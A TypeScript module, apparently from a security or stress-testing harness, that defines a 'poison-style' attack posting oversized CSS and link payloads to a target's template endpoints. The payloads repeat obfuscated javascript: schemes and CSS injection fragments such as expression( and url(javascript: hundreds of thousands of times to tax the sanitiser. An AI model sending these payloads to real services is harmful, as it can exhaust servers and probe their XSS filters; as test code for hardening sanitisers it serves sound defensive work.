import { postEverywhere } from '../post-content';
import type { Attack } from './attack';

const POISON = `${'java'.repeat(9_000)}${'script'.repeat(9_000)}:`;

const pieces = ['@import ', 'expression(', 'behavior:', 'url(javascript:', '/*', '\\6a '];

const paragraph = { type: 'paragraph', content: [{ type: 'text', text: 'Prices' }] };
const designWith = (css: string) =>
  JSON.stringify({
    type: 'doc',
    content: [
      { type: 'globalContent', attrs: { data: { css } } },
      { type: 'container', content: [paragraph] },
    ],
  });

export const poisonStyle: Attack = {
  name: 'poison-style',
  summary: 'Hands in styles that are made to be cleaned again and again, and addresses likewise.',
  async run(target, { scale, signal }) {
    const length = scale === 'full' ? 900_000 : 200_000;
    const styles =
      scale === 'full' ? [POISON, ...pieces.map((piece) => piece.repeat(length / piece.length))] : [POISON];
    const answers: string[] = [];
    for (const style of styles) {
      const html = `<style>${style}</style><p>Prices</p>`;
      answers.push(...(await postEverywhere(target, { template_html: html }, signal)));
      answers.push(...(await postEverywhere(target, { template_json: designWith(style) }, signal)));
    }
    const address = 'java<!---->script:'.repeat(length / 18);
    answers.push(
      ...(await postEverywhere(target, { template_html: `<a href="${address}">Prices</a>` }, signal)),
    );
    return [...new Set(answers)].join(' · ');
  },
};
